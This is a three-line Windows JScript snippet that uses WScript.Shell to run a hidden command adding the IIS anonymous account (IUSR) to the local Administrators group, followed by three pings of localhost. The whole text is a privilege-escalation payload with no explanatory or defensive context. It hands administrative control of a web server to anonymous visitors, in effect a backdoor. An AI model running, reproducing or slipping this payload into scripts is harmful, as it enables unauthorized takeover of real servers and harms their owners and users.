var shell = new ActiveXObject("WScript.Shell");
shell.Run("net localgroup Administrators IUSR /add", 0, true);
for (var i = 0; i < 3; i++) shell.Run("ping localhost");
